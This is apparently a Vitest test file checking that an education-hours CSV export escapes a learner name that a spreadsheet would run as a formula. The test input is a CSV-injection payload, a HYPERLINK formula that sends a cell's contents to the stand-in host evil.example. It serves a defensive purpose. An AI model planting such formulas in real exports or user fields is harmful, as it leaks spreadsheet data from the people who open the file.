import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createUser } from "@/test/helpers";
import { actAs } from "@/test/session";
import { GET } from "./route";

describe("education-hours CSV", () => {
  it("escapes a learner name that a spreadsheet would run as a formula", async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
    actAs(await createUser("learner", name));
    const response = await GET(new Request("http://localhost/dashboard/hours/pmp"), { params: Promise.resolve({ code: "pmp" }) });
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    const rows = Papa.parse<string[]>(await response.text()).data;
    expect(rows[0]![0]).toBe("Learner");
    const learnerCells = rows.slice(1).filter((r) => r.length === 7 && r[0] !== "Total" && r[0] !== "Required").map((r) => r[0]);
    expect(learnerCells.length).toBeGreaterThan(0);
    for (const cell of learnerCells) expect(cell).toBe(`'${name}`);
    expect(rows.find((r) => r[0] === "Required")?.[6]).toBe("35");
  });
});
